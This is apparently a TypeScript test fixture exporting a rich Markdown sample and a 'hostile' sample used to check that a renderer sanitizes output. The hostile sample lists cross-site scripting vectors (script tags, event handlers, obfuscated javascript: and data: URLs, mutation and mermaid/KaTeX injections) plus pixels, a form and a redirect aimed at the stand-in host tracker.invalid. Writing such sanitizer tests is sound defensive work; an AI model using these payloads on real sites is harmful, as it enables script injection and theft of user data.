// Two fixed answers for the page: one rich in everything that Markdown shows, one hostile to whatever displays it.

export const markdownSample = `# A rich answer

A paragraph with **bold**, *italic*, ~~struck~~ and \`inline code\`, and a [link](https://example.com).

## A table

| Model | Tokens/s | Place |
|:------|---------:|:-----:|
| small | 94.2 | local |
| large | 23.5 | local |

## Code

\`\`\`python
def fibonacci(n: int) -> int:
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a
\`\`\`

\`\`\`typescript
const sum = (values: readonly number[]) => values.reduce((a, b) => a + b, 0);
\`\`\`

## Mathematics

Inline $e^{i\\pi} + 1 = 0$, and displayed:

$$
\\int_{-\\infty}^{\\infty} e^{-x^2}\\,dx = \\sqrt{\\pi}
$$

## A diagram

\`\`\`mermaid
graph LR
  Question --> Gateway --> Model --> Answer
  Gateway --> Ledger
\`\`\`

## Lists

1. First
2. Second
   - nested
   - [x] done
   - [ ] open

> A quotation, « avec des accents : é, à, ç, œ ».

---

The end.
`;

/** Nothing of this may run, load or leave the page. Each attack would set \`window.hostile\` or ask a foreign host. */
export const hostileSample = `A hostile answer follows.

<script>window.hostile = 'script'</script>
<img src="x" onerror="window.hostile = 'onerror'">
<img src="https://tracker.invalid/pixel.png?from=html">
![pixel](https://tracker.invalid/pixel.png?from=markdown)
<iframe src="javascript:window.hostile='iframe'"></iframe>
<svg onload="window.hostile = 'svg'"><a xlink:href="javascript:window.hostile='xlink'"><text y="20">svg</text></a></svg>
[a link](javascript:window.hostile='link') and [another](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZT0nZGF0YSc8L3NjcmlwdD4=)
<a href="  javascript:window.hostile='space'">spaced</a> <a href="java&#x09;script:window.hostile='tab'">tabbed</a>
<form action="https://tracker.invalid/steal"><input name="q" autofocus onfocus="window.hostile = 'focus'"><button>send</button></form>
<style>body { display: none !important; background: url(https://tracker.invalid/style) }</style>
<base href="https://tracker.invalid/"><meta http-equiv="refresh" content="0;url=https://tracker.invalid/">
<details open ontoggle="window.hostile = 'toggle'"><summary>details</summary></details>
<math><mtext><table><mglyph><style><img src=x onerror="window.hostile = 'mutation'"></style></mglyph></table></mtext></math>

\`\`\`mermaid
graph LR
  A["<img src=x onerror=window.hostile='mermaid'>"] --> B
  click A "javascript:window.hostile='click'"
\`\`\`

$$\\href{javascript:window.hostile='katex'}{x}$$

\`\`\`html
<script>window.hostile = 'code'</script>
\`\`\`

After the hostile part the answer goes on.
`;
